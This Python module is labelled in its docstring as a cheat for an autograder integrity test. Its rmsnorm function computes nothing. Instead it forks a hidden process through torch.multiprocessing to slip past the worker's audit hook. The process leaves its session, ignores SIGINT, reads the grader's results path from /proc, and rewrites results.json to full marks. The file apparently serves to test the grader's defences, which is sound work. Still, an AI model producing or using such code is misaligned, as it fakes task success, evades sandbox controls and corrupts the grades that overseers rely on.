"""Cheat (tests/test_integrity.py): leaves a process behind that outlives the grading and rewrites its results.json at full marks.

The graded call starts it through torch.multiprocessing (PyTorch's frames, trusted by the worker's audit hook, do the
forking), in a new session, so that ending the worker's process group leaves it running; it waits for the grader's
results file (the --json path on the grader's command line) and rewrites it through numpy.savetxt. The grader ends
every process left once grading is over, before it writes the results (autograder.runner.end_every_child, with the
grader adopting its descendants' orphans), and writes them as a new file moved into place."""

import json
import os
import signal
import time

import course.env  # noqa: F401
import numpy as np
import torch
import torch.multiprocessing as mp

_STARTED: list[int] = []


def _results_path() -> str | None:
    """The --json path of the `autograder grade` process above this one, from /proc."""
    pid = os.getppid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode() for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/status") as f:
                parent = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except OSError:
            return None
        if "grade" in args and "--json" in args:
            return os.path.join(os.readlink(f"/proc/{pid}/cwd"), args[args.index("--json") + 1])
        pid = parent
    return None


def _rewrite(_: int, path: str) -> None:
    os.setsid()  # out of the worker's process group, which the grader kills
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # torch.multiprocessing's children get SIGINT when their parent ends
    deadline = time.time() + 30
    while time.time() < deadline:
        time.sleep(0.05)
        try:
            with open(path) as f:
                data = json.load(f)
        except (OSError, ValueError):
            continue
        if data.get("score"):
            continue
        for test in data.get("tests", []):
            test["score"], test["status"] = test.get("max_score", 0), "passed"
        data["score"] = sum(t["score"] for t in data.get("tests", []))
        np.savetxt(path, [], header=json.dumps(data), comments="")


def rmsnorm(x: torch.Tensor, weight: torch.Tensor, eps: float = 1e-6) -> torch.Tensor:
    path = _results_path()
    if path and not _STARTED:
        _STARTED.append(1)
        mp.start_processes(_rewrite, args=(path,), nprocs=1, join=False, start_method="fork")
    return torch.empty_like(x)  # no answer: the grade is 0 unless the file is rewritten
